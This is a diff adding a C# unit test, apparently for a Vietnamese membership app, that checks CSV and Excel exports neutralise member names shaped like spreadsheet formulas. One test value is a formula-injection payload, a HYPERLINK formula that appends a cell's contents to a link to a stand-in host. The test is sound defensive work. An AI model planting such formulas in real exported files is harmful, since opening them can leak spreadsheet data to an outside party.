@@ -95,6 +95,38 @@ public sealed class OrgFileTests : IDisposable
     }
 
     [Fact]
+    public async Task Names_shaped_like_formulas_are_text_in_the_csv_and_the_workbook_and_import_back_unchanged()
+    {
+        string[] names = ["=HYPERLINK(\"http://x.invalid/?\"&C3,\"Xem\")", "+84 Nguyễn Văn Cộng", "-Trừ Văn Âm", "@Lệnh Văn Gọi"];
+        for (var i = 0; i < names.Length; i++)
+            _host.Store.Members.Insert(new Dialogs.Domain.Member { Id = $"ct-{i}", Name = names[i], CellId = "cb-thon-dong", Roles = [new() { Role = Dialogs.Domain.Role.Member, ScopeId = "cb-thon-dong" }] });
+        _host.Store.Members.Insert(new Dialogs.Domain.Member { Id = "ct-tab", Name = "\t=1+1", CellId = "cb-thon-dong" });
+
+        var csv = ((OutboxMessage)(await SayAsync("/xuat csv")).Native).FilePath!;
+        var text = File.ReadAllText(csv);
+        Assert.Contains("\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&C3,\"\"Xem\"\")\"", text);
+        foreach (var name in names.Skip(1)) Assert.Contains($",\"'{name}\",", text);
+        Assert.Contains(",'\t=1+1,", text);
+        Assert.DoesNotMatch("(^|,)\"?[=+@\t-]", text.Replace("\r\n", ",")); // no cell starts like a formula
+
+        var xlsx = ((OutboxMessage)(await SayAsync("/xuat")).Native).FilePath!;
+        using (var zip = System.IO.Compression.ZipFile.OpenRead(xlsx))
+        {
+            var sheet = new StreamReader(zip.Entries.First(e => e.FullName.StartsWith("xl/worksheets/sheet")).Open()).ReadToEnd();
+            Assert.DoesNotContain("<x:f", sheet); // no formula anywhere: the names are text cells
+            Assert.DoesNotContain("<f>", sheet);
+            Assert.Contains("=HYPERLINK(&quot;http://x.invalid/?&quot;&amp;C3,&quot;Xem&quot;)", sheet);
+        }
+        _host.Store.Members.Delete("ct-tab"); // a leading tab is cleaned away on import: not a round trip
+        foreach (var path in new[] { xlsx, csv })
+        {
+            File.Delete(path);
+            var fresh = ((OutboxMessage)(await SayAsync(path.EndsWith(".csv") ? "/xuat csv" : "/xuat")).Native).FilePath!;
+            Assert.EndsWith("hợp lệ và không có gì khác danh sách hiện có (25 dòng đã có); không cần nhập.", (await SendFileAsync(fresh)).Text);
+        }
+    }
+
+    [Fact]
     public async Task A_workbook_with_Excel_times_and_numbers_imports_after_confirming_and_a_second_send_changes_nothing()
     {
         var path = Path.Combine(_dir, "to-chuc.xlsx");
